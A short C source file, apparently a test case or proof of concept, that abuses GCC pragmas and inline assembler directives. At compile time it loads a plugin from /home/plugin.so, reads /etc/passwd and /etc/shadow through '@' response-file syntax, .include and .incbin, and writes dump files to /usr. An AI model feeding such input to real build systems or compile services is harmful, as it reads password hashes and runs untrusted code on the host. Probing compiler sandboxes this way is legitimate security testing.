// Makes the compiler load code, read settings from files, and write elsewhere.
#pragma GCC optimize("-fplugin=/home/plugin.so")
#pragma GCC optimize("@/etc/passwd")
#pragma GCC optimize("-fdump-tree-all=/usr/kibitz-was-here")
#pragma GCC target("arch=@/etc/shadow")
#pragma GCC dependency "/etc/shadow"
asm(".include \"/etc/shadow\"");
asm(".incbin \"/etc/passwd\"");
int main() {}
